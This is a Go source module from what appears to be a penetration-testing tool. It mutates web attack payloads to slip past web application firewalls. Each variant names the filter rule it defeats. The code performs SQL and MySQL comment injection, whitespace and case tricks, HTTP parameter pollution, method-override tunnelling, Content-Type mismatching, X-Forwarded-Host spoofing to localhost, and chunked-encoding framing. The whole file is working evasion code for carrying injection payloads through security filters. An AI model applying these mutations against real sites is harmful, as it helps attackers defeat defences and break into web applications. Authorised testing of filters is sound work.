package mutation

import (
	"fmt"
	"net/url"
	"strings"
	"unicode"

	"golang.org/x/text/cases"
	"golang.org/x/text/language"
)

// Structural variants obfuscate without changing what the payload does on
// the other side of the filter.
var structuralVariants = []Variant{
	{Name: "whitespace_tab", Description: "Replace spaces with tabs", BypassTarget: "space-anchored regex rules"},
	{Name: "whitespace_newline", Description: "Replace spaces with newlines", BypassTarget: "single-line regex rules"},
	{Name: "whitespace_crlf", Description: "Replace spaces with CRLF pairs", BypassTarget: "line-oriented parsers"},
	{Name: "comment_inject", Description: "Language-keyed comment injection", BypassTarget: "keyword-adjacency rules"},
	{Name: "case_variation", Description: "One of a fixed set of case strategies", BypassTarget: "case-sensitive rules"},
	{Name: "param_pollute", Description: "Duplicate the target parameter", BypassTarget: "first/last-value parsers"},
	{Name: "verb_tunnel", Description: "POST with X-HTTP-Method-Override", BypassTarget: "method-scoped rules"},
	{Name: "content_type_shift", Description: "Mismatched Content-Type header", BypassTarget: "body-parser routing"},
	{Name: "host_override", Description: "X-Forwarded-Host spoofing", BypassTarget: "host-scoped rules"},
	{Name: "chunked_framing", Description: "Single-character chunked framing", BypassTarget: "body-reassembly gaps"},
}

type commentStyle struct {
	infix  string // replaces spaces when set
	prefix string
	suffix string
}

// commentTable keys comment injection by target language. The sql infix
// style is the safe default: it survives most grammars that tolerate
// comments at all.
var commentTable = map[string]commentStyle{
	"sql":   {infix: "/**/"},
	"mysql": {prefix: "/*!50000 ", suffix: " */"},
	"js":    {prefix: "/*x*/"},
	"html":  {prefix: "<!--x-->"},
}

// caseStrategies is the fixed candidate set for case_variation. The seeded
// Context picks one, so the variant stays reproducible per engagement.
var caseStrategies = []string{"alternate", "invert", "upper", "title"}

// pollutionStrategies is the fixed candidate set for param_pollute.
var pollutionStrategies = []string{"duplicate_first", "duplicate_second", "array", "semicolon"}

func applyStructural(payload, variant string, ctx *Context) (Result, error) {
	switch variant {
	case "whitespace_tab":
		return Result{Payload: strings.ReplaceAll(payload, " ", "\t")}, nil
	case "whitespace_newline":
		return Result{Payload: strings.ReplaceAll(payload, " ", "\n")}, nil
	case "whitespace_crlf":
		return Result{Payload: strings.ReplaceAll(payload, " ", "\r\n")}, nil
	case "comment_inject":
		return Result{Payload: commentInject(payload, ctx.Language)}, nil
	case "case_variation":
		strategy := caseStrategies[ctx.pick(len(caseStrategies))]
		return Result{Payload: caseVariation(payload, strategy)}, nil
	case "param_pollute":
		strategy := pollutionStrategies[ctx.pick(len(pollutionStrategies))]
		return Result{Payload: paramPollute(payload, ctx.ParamName, strategy)}, nil
	case "verb_tunnel":
		return Result{
			Payload: payload,
			Method:  "POST",
			Headers: map[string]string{"X-HTTP-Method-Override": "GET"},
		}, nil
	case "content_type_shift":
		return Result{
			Payload: payload,
			Headers: map[string]string{"Content-Type": "text/plain"},
		}, nil
	case "host_override":
		return Result{
			Payload: payload,
			Headers: map[string]string{"X-Forwarded-Host": "localhost"},
		}, nil
	case "chunked_framing":
		return Result{Payload: chunkedFraming(payload)}, nil
	default:
		return Result{}, unknownVariant(FamilyStructural, variant)
	}
}

func commentInject(payload, lang string) string {
	style, ok := commentTable[strings.ToLower(lang)]
	if !ok {
		style = commentTable["sql"]
	}
	if style.infix != "" {
		return strings.ReplaceAll(payload, " ", style.infix)
	}
	return style.prefix + payload + style.suffix
}

func caseVariation(payload, strategy string) string {
	switch strategy {
	case "alternate":
		var sb strings.Builder
		for i, r := range payload {
			if i%2 == 0 {
				sb.WriteRune(unicode.ToUpper(r))
			} else {
				sb.WriteRune(unicode.ToLower(r))
			}
		}
		return sb.String()
	case "invert":
		var sb strings.Builder
		for _, r := range payload {
			if unicode.IsUpper(r) {
				sb.WriteRune(unicode.ToLower(r))
			} else {
				sb.WriteRune(unicode.ToUpper(r))
			}
		}
		return sb.String()
	case "upper":
		return strings.ToUpper(payload)
	case "title":
		return cases.Title(language.Und).String(payload)
	default:
		return payload
	}
}

func paramPollute(payload, param, strategy string) string {
	escaped := url.QueryEscape(payload)
	switch strategy {
	case "duplicate_first":
		return fmt.Sprintf("%s=%s&%s=safe", param, escaped, param)
	case "duplicate_second":
		return fmt.Sprintf("%s=safe&%s=%s", param, param, escaped)
	case "array":
		return fmt.Sprintf("%s[]=safe&%s[]=%s", param, param, escaped)
	case "semicolon":
		return fmt.Sprintf("%s=safe;%s=%s", param, param, escaped)
	default:
		return fmt.Sprintf("%s=%s", param, escaped)
	}
}

func chunkedFraming(payload string) string {
	var sb strings.Builder
	for _, r := range payload {
		// Chunk sizes count bytes on the wire, not runes.
		chunk := string(r)
		sb.WriteString(fmt.Sprintf("%x\r\n%s\r\n", len(chunk), chunk))
	}
	sb.WriteString("0\r\n\r\n")
	return sb.String()
}
